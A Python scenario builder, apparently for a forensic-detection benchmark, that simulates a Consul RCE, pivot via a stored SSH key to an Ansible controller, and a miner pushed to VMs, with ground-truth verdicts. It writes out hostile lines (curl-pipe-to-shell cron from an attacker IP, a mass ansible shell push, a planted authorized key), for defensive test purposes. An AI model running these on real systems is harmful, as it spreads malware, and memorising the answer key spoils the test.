"""Seed case 6: Consul RCE, then a stored SSH key opens the Ansible server, which pushes to the VMs.

The internet-facing Consul agent on ``consul-01`` accepts a service registration whose check
runs a shell (Consul's ``/v1/agent/service/register`` with a script check): the dropper adds
a cron job that re-downloads it, its own ``authorized_keys`` entry and a miner. Root's
unencrypted key on ``consul-01`` is authorized on the Ansible controller ``ansible-01``; the
intruder logs in with it and runs one ad-hoc ``ansible`` command against the inventory, and
the miner lands on every VM that answered. ``vm-07`` was powered off during the push (only
the morning's legitimate Ansible run and the backups reached it: clean); ``vm-08``'s disk came
without logs or processes (unknown); ``gitlab-01`` holds a deploy key but is not reached.
The "tens of thousands of VMs" of the real case stand as eight.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios.net_logs import Network
from deminer.scenarios.seed.common import Persist, Truth, utc
from deminer.scenarios.seed.hosts_linux import LinuxBox, accepted_at, miner
from deminer.scenarios.treefs import public_key

ATTACKER = "198.51.100.66"
C2 = f"http://{ATTACKER}/c.sh"
POOL, POOL_IP, PORT = "pool.supportxmr.com", "198.51.100.23", 5555
BOOT = utc("2024-04-28 04:00:00")
START = utc("2024-05-06 01:00:00")
RCE = utc("2024-05-06 03:21:10")
PIVOT = utc("2024-05-06 03:40:00")
PUSH = utc("2024-05-06 03:52:00")
ATTACKER_KEY = f"ssh-rsa {public_key('ssh-rsa', 'kinsing-6')} root@localhost"
INVENTORY_VMS = [f"vm-{i:02d}" for i in range(1, 9)]


def _infect(box: LinuxBox, at: dt.datetime, truth: Truth, pid: int = 6100, ppid: int = 1) -> None:
    """What the miner script leaves on every host it reaches."""
    miner(box, pid, "/tmp/.consul/kdevtmpfsi", at + dt.timedelta(seconds=50), POOL, POOL_IP, PORT,
          comm=b"kdevtmpfsi", ppid=ppid)
    box.file("/tmp/.consul/c.sh", f"#!/bin/sh\ncurl -fsSL {C2} | sh\n", at + dt.timedelta(seconds=30), 0o755)
    box.crontab("root", f"*/30 * * * * curl -fsSL {C2} | sh", at + dt.timedelta(seconds=40))
    box.authorized_key("root", ATTACKER_KEY, at + dt.timedelta(seconds=45))
    truth.infect(box.name, at, Persist("cron", "*/30 * * * *"), Persist("authorized_key", "root@localhost"))


def build(out: Path, work: Path) -> Truth:
    truth = Truth(6, "Consul RCE, stored SSH keys into the Ansible server, pushed to the VMs", "service_rce")
    boxes: dict[str, LinuxBox] = {}
    plan = [("consul-01", "10.6.1.10", "infected"), ("ansible-01", "10.6.0.5", "infected"),
            ("gitlab-01", "10.6.0.7", "clean")]
    plan += [(vm, f"10.6.2.{10 + i}", "infected" if i <= 6 else "clean" if i == 7 else "unknown")
             for i, vm in enumerate(INVENTORY_VMS, start=1)]
    for n, (name, ip, verdict) in enumerate(plan):
        truth.host(name, ip, verdict)
        boxes[name] = box = LinuxBox(work, name, ip, BOOT, START, os_name="CentOS Linux 7 (Core)",
                                     seed=60 + n)
        box.auth.benign_login("admin", "192.0.2.10")
    consul, ansible = boxes["consul-01"], boxes["ansible-01"]
    net = Network(start=START, seed=6, resolver="10.6.0.2")

    # Noise: the 02:00 patch run of Ansible reaches every VM with the controller's key.
    ctl_key = ansible.private_key("root", "ansible-controller", utc("2023-11-02 10:00:00"))
    inventory = "[web]\n" + "".join(f"{vm} ansible_host={boxes[vm].ip}\n" for vm in INVENTORY_VMS)
    set_up = utc("2023-11-02 10:00:00")
    ansible.file("/etc/ansible/hosts", inventory + "\n[all:vars]\nansible_user=root\n", set_up)
    ansible.file("/etc/ansible/ansible.cfg", "[defaults]\ninventory = /etc/ansible/hosts\n"
                 "private_key_file = /root/.ssh/id_ed25519\nhost_key_checking = False\n", set_up)
    for vm in INVENTORY_VMS:
        box = boxes[vm]
        box.authorized_key("root", ctl_key, utc("2023-11-02 10:05:00"))
        ansible.known_host("root", box.ip, box, utc("2023-11-02 10:05:00"))
        box.auth.clock = utc("2024-05-06 02:00:00") + dt.timedelta(seconds=20 * INVENTORY_VMS.index(vm))
        box.auth.benign_login("root", ansible.ip)
    # consul-01's root key opens the controller (an old convenience of the admins).
    consul_key = consul.private_key("root", "consul-ops", utc("2023-08-14 09:00:00"))
    ansible.authorized_key("root", consul_key, utc("2023-08-14 09:01:00"))
    consul.known_host("root", ansible.ip, ansible, utc("2023-08-14 09:01:00"))
    consul.listen(900, b"consul", [b"/usr/bin/consul", b"agent", b"-config-dir=/etc/consul.d"],
                  "/usr/bin/consul", 8500)
    gitlab = boxes["gitlab-01"]
    gitlab.private_key("git", "gitlab-deploy", utc("2023-05-02 12:00:00"))

    # 1. The Consul RCE: the sensor's HTTP log has the requests, the host has what they ran.
    net.now = RCE - dt.timedelta(seconds=4)
    for method, uri, status in (("GET", "/v1/agent/self", 200), ("PUT", "/v1/agent/service/register", 200)):
        c = net.conn(ATTACKER, consul.ip, 8500, service="http", duration=0.05, orig_bytes=480, resp_bytes=900,
                     orig_pkts=5, resp_pkts=4)
        c.extra["http"] = {"trans_depth": 1, "method": method, "host": f"{consul.ip}:8500", "uri": uri,
                           "version": "1.1", "user_agent": "python-requests/2.31.0", "request_body_len": 310,
                           "response_body_len": 0, "status_code": status, "status_msg": "OK",
                           "resp_mime_types": ["application/json"]}
    # The check's shell ends in ``exec`` of the miner: it stays a child of the consul agent.
    _infect(consul, RCE, truth, ppid=900)
    truth.patient_zero = {"consul-01"}

    # 2. The stored key into the controller; 3. one ad-hoc command to the whole inventory.
    ansible.auth.clock = PIVOT
    ansible.auth.benign_login("root", consul.ip)
    at = accepted_at(ansible, consul.ip)
    truth.edge("consul-01", "ansible-01", "ssh_key", at)
    _infect(ansible, at, truth)
    ansible.history("root", [(at + dt.timedelta(minutes=2), "cat /etc/ansible/hosts"),
                             (PUSH, f"ansible all -m shell -a 'curl -fsSL {C2} | sh' -f 20")])
    net.now = PIVOT - dt.timedelta(seconds=2)
    net.conn(consul.ip, ansible.ip, 22, service="ssh", duration=900.0, orig_bytes=40_000, resp_bytes=90_000,
             orig_pkts=300, resp_pkts=280)
    for i, vm in enumerate(INVENTORY_VMS[:6]):
        box = boxes[vm]
        box.auth.clock = PUSH + dt.timedelta(seconds=3 * i)
        box.auth.benign_login("root", ansible.ip)
        at = accepted_at(box, ansible.ip)
        truth.edge("ansible-01", vm, "orchestration_push", at)
        _infect(box, at, truth)
        net.now = at - dt.timedelta(seconds=1)
        net.conn(ansible.ip, box.ip, 22, service="ssh", duration=8.0, orig_bytes=30_000, resp_bytes=12_000,
                 orig_pkts=60, resp_pkts=50)

    # The miners' pool traffic, and the backup server resolving and pulling every host.
    net.now = utc("2024-05-06 04:30:00")
    for name in sorted(truth.infected):
        net.miner(boxes[name].ip, POOL, POOL_IP, port=PORT, hours=1)
    for name, box in boxes.items():
        net.lookup("10.6.0.9", f"{name}.corp.example", [box.ip])
        net.conn("10.6.0.9", box.ip, 22, service="ssh", duration=30.0, orig_bytes=60_000,
                 resp_bytes=40_000_000, orig_pkts=700, resp_pkts=30_000)
    for box in boxes.values():
        box.auth.clock = max(box.auth.clock, utc("2024-05-06 05:00:00"))
        box.auth.benign_login("backup", "10.6.0.9")

    for name, box in boxes.items():
        box.collect(out, logs=name != "vm-08", proc=name != "vm-08")
    net.write_zeek(out / "sensor" / "zeek")

    for name in sorted(truth.infected):
        truth.want(name, "persistence.cron_pipe_to_shell", "impact.miner_process")
    truth.want("consul-01", "lateral_movement.stored_private_key")
    truth.want("ansible-01", "lateral_movement.orchestration_config")
    for name in sorted(truth.infected):
        truth.want(name, "command_and_control.net_pool_dns", needs="network")
    truth.clean_may = {"lateral_movement.stored_private_key"}
    truth.notes.append("vm-07 is in the inventory but was off during the push: the morning's legitimate "
                       "Ansible run reached it, the malicious one did not.")
    return truth
